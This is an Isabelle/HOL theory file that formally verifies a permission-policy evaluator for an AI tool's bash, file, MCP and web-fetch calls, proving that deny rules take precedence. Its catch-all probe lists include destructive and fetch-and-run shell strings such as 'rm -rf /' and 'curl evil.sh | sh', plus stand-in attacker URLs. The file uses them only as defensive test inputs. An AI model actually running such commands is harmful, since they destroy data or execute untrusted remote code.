(* ===== verification/Permission_Policy.thy ===== *)
theory Permission_Policy
  imports Permission_Rules Shell_Words "HOL-Library.Multiset"
begin

text \<open>
  Evaluating a permission policy (\<^verbatim>\<open>permission/policy.rs\<close> and the combination of decisions of
  \<^verbatim>\<open>permission/shell_access.rs\<close>). The crates \<^verbatim>\<open>glob\<close> and \<^verbatim>\<open>url\<close> and the Unicode lower-case table
  are the fields of the argument \<open>libs\<close>; the shell parser is the argument \<open>try_parse_shell\<close>. The
  locale \<open>ranked_join\<close> states how decisions combine.
\<close>

section \<open>Combining decisions\<close>

definition decision_rank :: "decision \<Rightarrow> nat" where
  "decision_rank d =
     (case d of Reject _ \<Rightarrow> 3 | PolicyDeny _ \<Rightarrow> 3 | Ask \<Rightarrow> 2 | Allow \<Rightarrow> 1 | _ \<Rightarrow> 0)"

definition combine_decisions :: "decision option \<Rightarrow> decision option \<Rightarrow> decision option" where
  "combine_decisions a b =
     (case (a, b) of
        (None, other) \<Rightarrow> other
      | (other, None) \<Rightarrow> other
      | (Some a, Some b) \<Rightarrow> Some (if decision_rank a \<ge> decision_rank b then a else b))"

definition at_least :: "('a \<Rightarrow> nat) \<Rightarrow> nat \<Rightarrow> 'a option \<Rightarrow> bool" where
  "at_least rank n x \<longleftrightarrow> (\<exists>a. x = Some a \<and> n \<le> rank a)"

locale ranked_join =
  fixes rank :: "'a \<Rightarrow> nat" and join :: "'a option \<Rightarrow> 'a option \<Rightarrow> 'a option"
  assumes join_None_left: "join None x = x"
    and join_None_right: "join x None = x"
    and join_Some: "join (Some a) (Some b) = Some (if rank b \<le> rank a then a else b)"
begin

lemma join_assoc: "join (join x y) z = join x (join y z)"
  by (cases x; cases y; cases z) (auto simp: join_None_left join_None_right join_Some)

lemma join_cases: "join x y = x \<or> join x y = y"
  by (cases x; cases y) (auto simp: join_None_left join_None_right join_Some)

lemma at_least_join: "at_least rank n (join x y) \<longleftrightarrow> at_least rank n x \<or> at_least rank n y"
  by (cases x; cases y) (auto simp: join_None_left join_None_right join_Some at_least_def)

lemma join_closed: "P x \<Longrightarrow> P y \<Longrightarrow> P (join x y)"
  using join_cases [of x y] by auto

text \<open>Folding a list of contributions: the result is as strong as the strongest one.\<close>

lemma at_least_fold:
  assumes "\<And>acc y. f acc y = join acc (g y)"
  shows "at_least rank n (foldl f x ys) \<longleftrightarrow> at_least rank n x \<or> (\<exists>y \<in> set ys. at_least rank n (g y))"
  by (induction ys arbitrary: x) (auto simp: at_least_join assms)

lemma fold_closed:
  assumes "\<And>acc y. f acc y = join acc (g y)" "P x" "\<And>y. y \<in> set ys \<Longrightarrow> P (g y)"
  shows "P (foldl f x ys)"
  using assms(2, 3) by (induction ys arbitrary: x) (simp_all add: join_closed assms(1))

end

interpretation cd: ranked_join decision_rank combine_decisions
  by unfold_locales (simp_all add: combine_decisions_def split: option.splits)

section \<open>Compiled policies\<close>

record permission_libs =
  glob_valid :: "ustr \<Rightarrow> bool"
  glob_match :: "bool \<Rightarrow> ustr \<Rightarrow> ustr \<Rightarrow> bool"
  url_host :: "ustr \<Rightarrow> ustr option"
  to_lowercase :: "ustr \<Rightarrow> ustr"

record compiled_policy =
  config :: permission_config
  matchers :: "ustr option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool

definition rule_matcher :: "permission_libs \<Rightarrow> permission_rule \<Rightarrow> ustr option" where
  "rule_matcher libs rule =
     (case pattern rule of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p \<noteq> u ''*'' \<and> glob_valid libs p then Some p else None)"

definition restricts :: "tool_filter set \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "restricts ts rule \<longleftrightarrow> (action rule = ActDeny \<or> action rule = ActAsk) \<and> tool rule \<in> ts"

definition compile_policy :: "permission_libs \<Rightarrow> permission_config \<Rightarrow> compiled_policy" where
  "compile_policy libs cfg =
     \<lparr>config = cfg, matchers = map (rule_matcher libs) (rules cfg),
      has_file_restrictions = list_ex (restricts {TRead, TEdit, TAny}) (rules cfg),
      has_bash_command_restrictions = list_ex (restricts {TBash, TAny}) (rules cfg)\<rparr>"

definition normalize_domain :: "permission_libs \<Rightarrow> ustr \<Rightarrow> ustr" where
  "normalize_domain libs raw =
     (let s = trim_end_matches 46 (trim_end_matches 47 (trim raw));
          s = (case strip_prefix (u ''www.'') s of Some t \<Rightarrow> t | None \<Rightarrow> s)
      in to_lowercase libs s)"

definition domain_matches :: "permission_libs \<Rightarrow> ustr \<Rightarrow> ustr \<Rightarrow> bool" where
  "domain_matches libs pat url =
     (case url_host libs url of
        None \<Rightarrow> False
      | Some host \<Rightarrow>
          (let domain = normalize_domain libs host; normalized_pattern = normalize_domain libs pat
           in domain = normalized_pattern \<or> ends_with (u ''.'' @ normalized_pattern) domain))"

definition tool_filter_matches :: "'j access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access flt =
     (case flt of
        TAny \<Rightarrow> True
      | TBash \<Rightarrow> (case access of Bash _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TEdit \<Rightarrow> (case access of Edit _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TRead \<Rightarrow> (case access of Read _ \<Rightarrow> True | Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TGrep \<Rightarrow> (case access of Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TMcp \<Rightarrow> (case access of MCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TWebFetch \<Rightarrow> (case access of WebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TWebSearch \<Rightarrow> (case access of WebSearch _ \<Rightarrow> True | _ \<Rightarrow> False))"

text \<open>The flag of \<open>glob_match\<close> is \<^verbatim>\<open>require_literal_separator\<close>: set for paths, clear for free text.\<close>

definition glob_matches :: "permission_libs \<Rightarrow> ustr \<Rightarrow> bool \<Rightarrow> ustr option \<Rightarrow> bool" where
  "glob_matches libs text is_path pat =
     (case pat of None \<Rightarrow> False | Some p \<Rightarrow> glob_match libs is_path p text)"

definition pattern_matches ::
    "permission_libs \<Rightarrow> 'j access_kind \<Rightarrow> permission_rule \<Rightarrow> ustr option \<Rightarrow> bool" where
  "pattern_matches libs access rule matcher =
     (case pattern rule of
        None \<Rightarrow> True
      | Some pat \<Rightarrow>
          if pat = u ''*'' then True
          else (case access of
                  Bash cmd \<Rightarrow>
                    (let cmd = trim_start cmd in
                     starts_with pat cmd \<or> glob_matches libs cmd False matcher)
                | Edit path \<Rightarrow> glob_matches libs path True matcher
                | Read (Some p) \<Rightarrow> glob_matches libs p True matcher
                | Read None \<Rightarrow> False
                | Grep (Some p) _ \<Rightarrow> glob_matches libs p True matcher
                | Grep None _ \<Rightarrow> False
                | MCPTool name _ \<Rightarrow> glob_matches libs name False matcher
                | WebFetch url \<Rightarrow>
                    (case mode_of_pattern rule of
                       Domain \<Rightarrow> domain_matches libs pat url
                     | Glob \<Rightarrow> glob_matches libs url False matcher)
                | WebSearch query \<Rightarrow> glob_matches libs query False matcher \<or> starts_with pat query))"

definition tool_label :: "tool_filter \<Rightarrow> ustr" where
  "tool_label t =
     (case t of
        TAny \<Rightarrow> u ''any tool'' | TBash \<Rightarrow> u ''bash'' | TEdit \<Rightarrow> u ''edit'' | TRead \<Rightarrow> u ''read''
      | TGrep \<Rightarrow> u ''grep'' | TMcp \<Rightarrow> u ''mcp'' | TWebFetch \<Rightarrow> u ''web_fetch'' | TWebSearch \<Rightarrow> u ''web_search'')"

definition deny_reason :: "permission_rule \<Rightarrow> ustr" where
  "deny_reason rule =
     u ''Denied by permission policy: deny rule on '' @ tool_label (tool rule) @
     (case pattern rule of Some pat \<Rightarrow> u '' matching '' @ [34] @ pat @ [34] | None \<Rightarrow> [])"

fun evaluate_loop ::
    "permission_libs \<Rightarrow> 'j access_kind \<Rightarrow> (permission_rule \<times> ustr option) list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> decision option" where
  "evaluate_loop libs access [] matched_ask matched_allow =
     (if matched_ask then Some Ask else if matched_allow then Some Allow else None)"
| "evaluate_loop libs access ((rule, matcher) # rs) matched_ask matched_allow =
     (if \<not> tool_filter_matches access (tool rule) then evaluate_loop libs access rs matched_ask matched_allow
      else if \<not> pattern_matches libs access rule matcher
      then evaluate_loop libs access rs matched_ask matched_allow
      else (case action rule of
              ActDeny \<Rightarrow> Some (Reject (deny_reason rule))
            | ActAsk \<Rightarrow> evaluate_loop libs access rs True matched_allow
            | ActAllow \<Rightarrow> evaluate_loop libs access rs matched_ask True))"

definition evaluate :: "permission_libs \<Rightarrow> compiled_policy \<Rightarrow> 'j access_kind \<Rightarrow> decision option" where
  "evaluate libs policy access =
     evaluate_loop libs access (zip (rules (config policy)) (matchers policy)) False False"

section \<open>Bash commands\<close>

definition shell_dash_c_script :: "ustr list \<Rightarrow> ustr option" where
  "shell_dash_c_script ws =
     (case ws of
        [] \<Rightarrow> None
      | w # args \<Rightarrow>
          if shell_program_name w \<notin> set (map u [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh'']) then None
          else (case dropWhile (\<lambda>a. \<not> (starts_with (u ''-'') a \<and> \<not> starts_with (u ''--'') a \<and> 99 \<in> set a)) args of
                  [] \<Rightarrow> None
                | _ # rest \<Rightarrow>
                    (case dropWhile (\<lambda>a. a \<noteq> u ''--'' \<and> a \<noteq> u ''-'' \<and> starts_with (u ''-'') a) rest of
                       [] \<Rightarrow> None
                     | a # rest' \<Rightarrow>
                         if a = u ''--'' \<or> a = u ''-''
                         then (case rest' of [] \<Rightarrow> None | s # _ \<Rightarrow> Some s)
                         else Some a)))"

definition escalate :: "decision option \<Rightarrow> decision option" where
  "escalate d = (case d of Some Allow \<Rightarrow> None | other \<Rightarrow> other)"

text \<open>The forms of a command that are checked: as written and, if a wrapper was peeled, without it.\<close>

definition command_forms :: "ustr list \<Rightarrow> ustr list list" where
  "command_forms raw_words =
     (let unwrapped = unwrap_wrappers raw_words in
      [raw_words] @ (if length unwrapped \<noteq> length raw_words then [unwrapped] else []))"

text \<open>The source counts the depth up to 8; \<open>fuel\<close> is what is left of it.\<close>

fun evaluate_bash_command_segments ::
    "nat \<Rightarrow> permission_libs \<Rightarrow> shell_parser \<Rightarrow> compiled_policy \<Rightarrow> ustr \<Rightarrow> decision option" where
  "evaluate_bash_command_segments 0 libs try_parse_shell policy cmd = Some Ask"
| "evaluate_bash_command_segments (Suc fuel) libs try_parse_shell policy cmd =
     (case all_commands_from_script try_parse_shell cmd of
        None \<Rightarrow> Some Ask
      | Some segments \<Rightarrow>
          foldl (\<lambda>decision ws.
              (let decision = combine_decisions decision
                     (escalate (evaluate libs policy (Bash (join [32] ws) :: unit access_kind))) in
               case shell_dash_c_script ws of
                 None \<Rightarrow> decision
               | Some inner \<Rightarrow> combine_decisions decision
                     (evaluate_bash_command_segments fuel libs try_parse_shell policy inner)))
            None (concat (map (\<lambda>parsed. command_forms (words parsed)) segments)))"

definition evaluate_bash_command_policy ::
    "permission_libs \<Rightarrow> shell_parser \<Rightarrow> compiled_policy \<Rightarrow> ustr \<Rightarrow> decision option" where
  "evaluate_bash_command_policy libs try_parse_shell policy cmd =
     (if \<not> has_bash_command_restrictions policy then None
      else evaluate_bash_command_segments 8 libs try_parse_shell policy cmd)"

section \<open>Catch-all rules\<close>

definition bash_probes :: "unit access_kind list" where
  "bash_probes = map (\<lambda>c. Bash (u c)) [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "unit access_kind list" where
  "mcp_probes = map (\<lambda>n. MCPTool (u n) ())
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "unit access_kind list" where
  "webfetch_probes = map (\<lambda>x. WebFetch (u x))
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
      ''ftp://files.example.org/p'']"

definition rule_is_catchall :: "permission_libs \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall libs rule =
     (let opens_all = list_all (\<lambda>a. pattern_matches libs a rule (rule_matcher libs rule)) in
      case tool rule of
        TBash \<Rightarrow> opens_all bash_probes
      | TMcp \<Rightarrow> opens_all mcp_probes
      | TWebFetch \<Rightarrow> opens_all webfetch_probes
      | TAny \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes
      | _ \<Rightarrow> False)"

section \<open>Precedence\<close>

definition rule_applies :: "permission_libs \<Rightarrow> 'j access_kind \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_applies libs access r \<longleftrightarrow>
     tool_filter_matches access (tool r) \<and> pattern_matches libs access r (rule_matcher libs r)"

definition some_rule :: "permission_libs \<Rightarrow> 'j access_kind \<Rightarrow> rule_action \<Rightarrow> permission_rule set \<Rightarrow> bool" where
  "some_rule libs access act R \<longleftrightarrow> (\<exists>r \<in> R. rule_applies libs access r \<and> action r = act)"

lemma some_rule_any:
  "(\<exists>r \<in> R. rule_applies libs access r) \<longleftrightarrow>
     some_rule libs access ActDeny R \<or> some_rule libs access ActAsk R \<or> some_rule libs access ActAllow R"
proof
  assume "\<exists>r \<in> R. rule_applies libs access r"
  then obtain r where "r \<in> R" "rule_applies libs access r" by blast
  then show "some_rule libs access ActDeny R \<or> some_rule libs access ActAsk R \<or> some_rule libs access ActAllow R"
    by (cases "action r") (auto simp: some_rule_def)
qed (auto simp: some_rule_def)

lemma evaluate_loop_denies:
  "some_rule libs access ActDeny (set rs) \<Longrightarrow>
   \<exists>r \<in> set rs. rule_applies libs access r \<and> action r = ActDeny \<and>
     evaluate_loop libs access (zip rs (map (rule_matcher libs) rs)) ask allow = Some (Reject (deny_reason r))"
proof (induction rs arbitrary: ask allow)
  case (Cons r rs)
  show ?case
  proof (cases "rule_applies libs access r \<and> action r = ActDeny")
    case True
    then show ?thesis by (auto simp: rule_applies_def)
  next
    case False
    with Cons.prems have "some_rule libs access ActDeny (set rs)" by (auto simp: some_rule_def)
    note IH = Cons.IH [OF this]
    show ?thesis
      using IH [of ask allow] IH [of True allow] IH [of ask True] False
      by (cases "action r") (auto simp: rule_applies_def)
  qed
qed (simp add: some_rule_def)

lemma evaluate_loop_no_deny:
  "\<not> some_rule libs access ActDeny (set rs) \<Longrightarrow>
   evaluate_loop libs access (zip rs (map (rule_matcher libs) rs)) ask allow =
     (if ask \<or> some_rule libs access ActAsk (set rs) then Some Ask
      else if allow \<or> some_rule libs access ActAllow (set rs) then Some Allow else None)"
proof (induction rs arbitrary: ask allow)
  case (Cons r rs)
  have split: "some_rule libs access a (set (r # rs)) \<longleftrightarrow>
      (rule_applies libs access r \<and> action r = a) \<or> some_rule libs access a (set rs)" for a
    by (auto simp: some_rule_def)
  from Cons.prems have nd: "\<not> some_rule libs access ActDeny (set rs)"
    "\<not> (rule_applies libs access r \<and> action r = ActDeny)" unfolding split by auto
  show ?case
    unfolding split using nd(2) Cons.IH [OF nd(1)]
    by (cases "action r") (auto simp: rule_applies_def)
qed (simp add: some_rule_def)

lemma evaluate_compiled:
  "evaluate libs (compile_policy libs cfg) access =
     evaluate_loop libs access (zip (rules cfg) (map (rule_matcher libs) (rules cfg))) False False"
  by (simp add: evaluate_def compile_policy_def)

lemma evaluate_reject_iff:
  "(\<exists>reason. evaluate libs (compile_policy libs cfg) access = Some (Reject reason)) \<longleftrightarrow>
     some_rule libs access ActDeny (set (rules cfg))"
  using evaluate_loop_denies [of libs access "rules cfg" False False]
    evaluate_loop_no_deny [of libs access "rules cfg" False False]
  unfolding evaluate_compiled
  by (cases "some_rule libs access ActDeny (set (rules cfg))") (auto split: if_splits)

lemma evaluate_range:
  "evaluate libs (compile_policy libs cfg) access \<in> {None, Some Allow, Some Ask} \<union> range (\<lambda>r. Some (Reject r))"
  using evaluate_loop_denies [of libs access "rules cfg" False False]
    evaluate_loop_no_deny [of libs access "rules cfg" False False]
  unfolding evaluate_compiled
  by (cases "some_rule libs access ActDeny (set (rules cfg))") auto

section \<open>Nested scripts\<close>

text \<open>The command forms a script runs, down to a nesting depth of \<^verbatim>\<open>bash -c\<close>.\<close>

inductive runs_form :: "shell_parser \<Rightarrow> nat \<Rightarrow> ustr \<Rightarrow> ustr list \<Rightarrow> bool" for p where
  runs_direct: "all_commands_from_script p cmd = Some segs \<Longrightarrow> c \<in> set segs \<Longrightarrow>
     ws \<in> set (command_forms (words c)) \<Longrightarrow> runs_form p (Suc n) cmd ws"
| runs_nested: "all_commands_from_script p cmd = Some segs \<Longrightarrow> c \<in> set segs \<Longrightarrow>
     ws \<in> set (command_forms (words c)) \<Longrightarrow> shell_dash_c_script ws = Some inner \<Longrightarrow>
     runs_form p n inner ws' \<Longrightarrow> runs_form p (Suc n) cmd ws'"

inductive_cases runs_form_SucE: "runs_form p (Suc n) cmd ws"
inductive_cases runs_form_0E: "runs_form p 0 cmd ws"

abbreviation bash_access :: "ustr list \<Rightarrow> unit access_kind" where
  "bash_access ws \<equiv> Bash (join [32] ws)"

text \<open>What one command form contributes to the decision.\<close>

definition form_decision ::
    "nat \<Rightarrow> permission_libs \<Rightarrow> shell_parser \<Rightarrow> compiled_policy \<Rightarrow> ustr list \<Rightarrow> decision option" where
  "form_decision n libs p policy ws =
     combine_decisions (escalate (evaluate libs policy (bash_access ws)))
       (case shell_dash_c_script ws of
          None \<Rightarrow> None
        | Some inner \<Rightarrow> evaluate_bash_command_segments n libs p policy inner)"

lemma segments_step:
  "(let decision = combine_decisions d (escalate (evaluate libs policy (bash_access ws))) in
    case shell_dash_c_script ws of
      None \<Rightarrow> decision
    | Some inner \<Rightarrow> combine_decisions decision (evaluate_bash_command_segments n libs p policy inner)) =
   combine_decisions d (form_decision n libs p policy ws)"
  by (simp add: form_decision_def cd.join_assoc cd.join_None_right split: option.split)

lemma segments_Suc:
  "evaluate_bash_command_segments (Suc n) libs p policy cmd =
     (case all_commands_from_script p cmd of
        None \<Rightarrow> Some Ask
      | Some segs \<Rightarrow>
          foldl (\<lambda>d ws. combine_decisions d (form_decision n libs p policy ws)) None
            (concat (map (\<lambda>c. command_forms (words c)) segs)))"
  unfolding evaluate_bash_command_segments.simps segments_step ..

definition escalation :: "decision option \<Rightarrow> bool" where
  "escalation d \<longleftrightarrow> d = None \<or> d = Some Ask \<or> (\<exists>r. d = Some (Reject r))"

lemma escalate_escalation: "escalation (escalate (evaluate libs (compile_policy libs cfg) access))"
  using evaluate_range [of libs cfg access] by (auto simp: escalation_def escalate_def)

lemma escalation_combine: "escalation a \<Longrightarrow> escalation b \<Longrightarrow> escalation (combine_decisions a b)"
  by (rule cd.join_closed)

lemma segments_escalation:
  "escalation (evaluate_bash_command_segments n libs p (compile_policy libs cfg) cmd)"
proof (induction n arbitrary: cmd)
  case (Suc n)
  have "escalation (form_decision n libs p (compile_policy libs cfg) ws)" for ws
    unfolding form_decision_def using Suc
    by (intro escalation_combine escalate_escalation) (auto simp: escalation_def split: option.split)
  note form = this
  have "escalation (foldl (\<lambda>d ws. combine_decisions d (form_decision n libs p (compile_policy libs cfg) ws)) None xs)" for xs
    by (rule cd.fold_closed [where P = escalation and g = "form_decision n libs p (compile_policy libs cfg)"])
       (simp_all add: form, simp add: escalation_def)
  then show ?case unfolding segments_Suc by (auto simp: escalation_def split: option.split)
qed (simp add: escalation_def)

lemma at_least_escalate: "2 \<le> k \<Longrightarrow> at_least decision_rank k (escalate d) \<longleftrightarrow> at_least decision_rank k d"
  by (auto simp: at_least_def escalate_def decision_rank_def split: option.splits decision.splits)

lemma at_least_None [simp]: "\<not> at_least r k None"
  by (simp add: at_least_def)

lemma at_least_form:
  "2 \<le> k \<Longrightarrow> at_least decision_rank k (form_decision n libs p policy ws) \<longleftrightarrow>
     at_least decision_rank k (evaluate libs policy (bash_access ws)) \<or>
     (\<exists>inner. shell_dash_c_script ws = Some inner \<and>
        at_least decision_rank k (evaluate_bash_command_segments n libs p policy inner))"
  by (auto simp: form_decision_def cd.at_least_join at_least_escalate split: option.splits)

lemma segments_at_least:
  assumes "2 \<le> k" "runs_form p n cmd ws" "at_least decision_rank k (evaluate libs policy (bash_access ws))"
  shows "at_least decision_rank k (evaluate_bash_command_segments n libs p policy cmd)"
  using assms(2, 3)
proof (induction rule: runs_form.induct)
  case (runs_direct cmd segs c ws n)
  then show ?case
    unfolding segments_Suc using assms(1)
    by (auto simp: cd.at_least_fold [where g = "form_decision n libs p policy"] at_least_form)
next
  case (runs_nested cmd segs c ws inner n ws')
  then show ?case
    unfolding segments_Suc using assms(1)
    by (auto simp: cd.at_least_fold [where g = "form_decision n libs p policy"] at_least_form)
qed

lemma segments_reject_from:
  "at_least decision_rank 3 (evaluate_bash_command_segments n libs p policy cmd) \<Longrightarrow>
     \<exists>ws. runs_form p n cmd ws \<and> at_least decision_rank 3 (evaluate libs policy (bash_access ws))"
proof (induction n arbitrary: cmd)
  case (Suc n)
  show ?case
  proof (cases "all_commands_from_script p cmd")
    case None
    with Suc.prems show ?thesis by (simp add: at_least_def decision_rank_def)
  next
    case (Some segs)
    with Suc.prems obtain ws c where ws: "c \<in> set segs" "ws \<in> set (command_forms (words c))"
      "at_least decision_rank 3 (form_decision n libs p policy ws)"
      unfolding segments_Suc
      by (auto simp: cd.at_least_fold [where g = "form_decision n libs p policy"])
    then show ?thesis
      using Some Suc.IH by (auto simp: at_least_form intro: runs_direct runs_nested)
  qed
qed (simp add: at_least_def decision_rank_def)

lemma reject_iff_rank:
  "escalation d \<Longrightarrow> (\<exists>r. d = Some (Reject r)) \<longleftrightarrow> at_least decision_rank 3 d"
  by (auto simp: escalation_def at_least_def decision_rank_def)

lemma evaluate_reject_rank:
  "(\<exists>r. evaluate libs (compile_policy libs cfg) access = Some (Reject r)) \<longleftrightarrow>
     at_least decision_rank 3 (evaluate libs (compile_policy libs cfg) access)"
  using evaluate_range [of libs cfg access] by (auto simp: at_least_def decision_rank_def)

lemma bash_rule_restricts:
  assumes "evaluate libs (compile_policy libs cfg) (Bash cmd :: 'j access_kind) = Some d" "d \<noteq> Allow"
  shows "has_bash_command_restrictions (compile_policy libs cfg)"
proof -
  have "some_rule libs (Bash cmd :: 'j access_kind) ActDeny (set (rules cfg)) \<or>
      some_rule libs (Bash cmd :: 'j access_kind) ActAsk (set (rules cfg))"
    using assms evaluate_loop_no_deny [of libs "Bash cmd :: 'j access_kind" "rules cfg" False False]
    unfolding evaluate_compiled
    by (cases "some_rule libs (Bash cmd :: 'j access_kind) ActDeny (set (rules cfg))") (auto split: if_splits)
  then obtain r where r: "r \<in> set (rules cfg)" "action r = ActDeny \<or> action r = ActAsk"
    "tool_filter_matches (Bash cmd :: 'j access_kind) (tool r)"
    by (auto simp: some_rule_def rule_applies_def)
  from r(3) have "tool r \<in> {TBash, TAny}" by (cases "tool r") (auto simp: tool_filter_matches_def)
  with r show ?thesis by (auto simp: compile_policy_def list_ex_iff restricts_def)
qed

section \<open>Properties\<close>

abbreviation decides :: "permission_libs \<Rightarrow> permission_config \<Rightarrow> 'j access_kind \<Rightarrow> decision option" where
  "decides libs cfg access \<equiv> evaluate libs (compile_policy libs cfg) access"

abbreviation bash_gate :: "permission_libs \<Rightarrow> shell_parser \<Rightarrow> permission_config \<Rightarrow> ustr \<Rightarrow> decision option" where
  "bash_gate libs p cfg cmd \<equiv> evaluate_bash_command_policy libs p (compile_policy libs cfg) cmd"

text \<open>
  C16. A policy decides by precedence, whatever the order of its rules: an access is rejected exactly
  when some applying rule denies it, and with the reason of such a rule; otherwise it is asked about
  exactly when some applying rule asks, allowed exactly when no applying rule asks and some allows,
  and left undecided exactly when no rule applies. No other decision is ever returned.
\<close>
theorem evaluate_precedence:
  "((\<exists>r. decides libs cfg access = Some (Reject r)) \<longleftrightarrow> some_rule libs access ActDeny (set (rules cfg))) \<and>
    (decides libs cfg access = Some Ask \<longleftrightarrow> \<not> some_rule libs access ActDeny (set (rules cfg)) \<and> some_rule libs access ActAsk (set (rules cfg))) \<and>
    (decides libs cfg access = Some Allow \<longleftrightarrow> \<not> some_rule libs access ActDeny (set (rules cfg)) \<and> \<not> some_rule libs access ActAsk (set (rules cfg)) \<and>
       some_rule libs access ActAllow (set (rules cfg))) \<and>
    (decides libs cfg access = None \<longleftrightarrow> (\<forall>r. r \<in> set (rules cfg) \<and> rule_applies libs access r \<longrightarrow> False)) \<and>
    (\<forall>reason. decides libs cfg access = Some (Reject reason) \<longrightarrow>
       (\<exists>r. r \<in> set (rules cfg) \<and> rule_applies libs access r \<and> action r = ActDeny \<and> reason = deny_reason r))"
proof (cases "some_rule libs access ActDeny (set (rules cfg))")
  case True
  with evaluate_loop_denies [of libs access "rules cfg" False False] obtain r where
    "r \<in> set (rules cfg)" "rule_applies libs access r" "action r = ActDeny"
    "decides libs cfg access = Some (Reject (deny_reason r))"
    unfolding evaluate_compiled by blast
  with True show ?thesis by auto
next
  case False
  then have d: "decides libs cfg access = (if some_rule libs access ActAsk (set (rules cfg)) then Some Ask
      else if some_rule libs access ActAllow (set (rules cfg)) then Some Allow else None)"
    using evaluate_loop_no_deny [of libs access "rules cfg" False False]
    unfolding evaluate_compiled by simp
  moreover have "(\<forall>r. r \<in> set (rules cfg) \<and> rule_applies libs access r \<longrightarrow> False) \<longleftrightarrow>
      \<not> some_rule libs access ActAsk (set (rules cfg)) \<and> \<not> some_rule libs access ActAllow (set (rules cfg))"
    using False some_rule_any [of "set (rules cfg)" libs access] by blast
  ultimately show ?thesis using False by (auto split: if_splits)
qed

text \<open>
  A small instance of the parameters: globs that match literally, ASCII lower case, and a parser for
  scripts of plain words separated by blanks and semicolons.
\<close>

definition sample_libs :: permission_libs where
  "sample_libs = \<lparr>glob_valid = (\<lambda>p. True), glob_match = (\<lambda>is_path p t. p = t), url_host = Some,
                  to_lowercase = to_ascii_lowercase\<rparr>"

definition word_node :: "ustr \<Rightarrow> tnode" where
  "word_node w = TNode (u ''word'') True None (Some w) 0 0 []"

definition command_node :: "nat \<times> ustr \<Rightarrow> tnode" where
  "command_node c =
     (case split_char 32 (snd c) of
        [] \<Rightarrow> TNode (u ''command'') True None (Some (snd c)) (fst c) 0 []
      | w # ws \<Rightarrow> TNode (u ''command'') True None (Some (snd c)) (fst c) 0
                   (TNode (u ''command_name'') True (Some (u ''name'')) (Some w) 0 0 [word_node w] #
                    map word_node ws))"

definition sample_parser :: shell_parser where
  "sample_parser s = Some (TNode (u ''program'') True None (Some s) 0 0 (map command_node (enumerate 0 (split_char 59 s))), False)"

definition deny_rm :: permission_config where
  "deny_rm = config_new
     [\<lparr>action = ActAllow, tool = TBash, pattern = None, mode_of_pattern = Glob\<rparr>,
      \<lparr>action = ActDeny, tool = TBash, pattern = Some (u ''rm''), mode_of_pattern = Glob\<rparr>]"

lemma deny_rm_rejects:
  "decides sample_libs deny_rm (bash_access (map u [''rm'', ''x''])) =
     Some (Reject (deny_reason \<lparr>action = ActDeny, tool = TBash, pattern = Some (u ''rm''), mode_of_pattern = Glob\<rparr>))"
  by code_simp

theorem evaluate_precedence_witness:
  "\<exists>r. r \<in> set (rules deny_rm) \<and> rule_applies sample_libs (bash_access (map u [''rm'', ''x''])) r \<and> action r = ActDeny"
  using evaluate_precedence [of sample_libs deny_rm "bash_access (map u [''rm'', ''x''])"] deny_rm_rejects
  by blast



end
